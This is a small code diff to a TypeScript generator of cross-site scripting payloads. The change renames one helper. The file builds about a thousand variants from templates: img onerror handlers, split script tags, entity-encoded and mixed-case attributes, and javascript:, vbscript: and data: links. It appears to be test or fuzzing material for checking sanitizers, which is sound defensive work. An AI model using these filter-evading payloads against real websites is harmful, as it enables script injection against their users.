@@ -4,7 +4,7 @@ export const PAYLOAD_COUNT = 1_000;
 const call = (index: number): string => `alert(${index})`;
 const entities = (text: string): string =>
   [...text].map((one, at) => (at % 2 ? `&#x${one.charCodeAt(0).toString(16)};` : `&#${one.charCodeAt(0)}`)).join('');
-const mixed = (text: string): string => [...text].map((one, at) => (at % 2 ? one.toUpperCase() : one)).join('');
+const mixCase = (text: string): string => [...text].map((one, at) => (at % 2 ? one.toUpperCase() : one)).join('');
 
 /** Elements that run a script without a press, and addresses that run one when pressed. */
 const CORES: readonly ((index: number) => string)[] = [
@@ -13,7 +13,7 @@ const CORES: readonly ((index: number) => string)[] = [
   (index) => `<scr<script>ipt>${call(index)}</script>`,
   (index) => `<img src=x onerror="${call(index)}">`,
   (index) => `<img src=x onerror="${entities(call(index))}">`,
-  (index) => `<IMG/SRC=x/${mixed('onerror')}=${call(index)}>`,
+  (index) => `<IMG/SRC=x/${mixCase('onerror')}=${call(index)}>`,
   (index) => `<img src='x'\tonerror\n=\n'${call(index)}'>`,
   (index) => `<img src=x onerror=${call(index)} `,
   (index) => `<img src="https://leak.example/${index}" onload=${call(index)}>`,
@@ -27,7 +27,7 @@ const CORES: readonly ((index: number) => string)[] = [
   (index) => `<math><maction actiontype="statusline" xlink:href="javascript:${call(index)}">press</maction></math>`,
   (index) => `<a href="javascript:${call(index)}">press</a>`,
   (index) => `<a href="java&Tab;script&colon;${call(index)}">press</a>`,
-  (index) => `<a href="&#1;${mixed('javascript')}:${entities(call(index))}">press</a>`,
+  (index) => `<a href="&#1;${mixCase('javascript')}:${entities(call(index))}">press</a>`,
   (index) => `<a href="vbscript:${call(index)}">press</a>`,
   (index) => `<a href="data:text/html,<script>${call(index)}</script>">press</a>`,
   (index) => `<iframe src="javascript:parent.${call(index)}"></iframe>`,
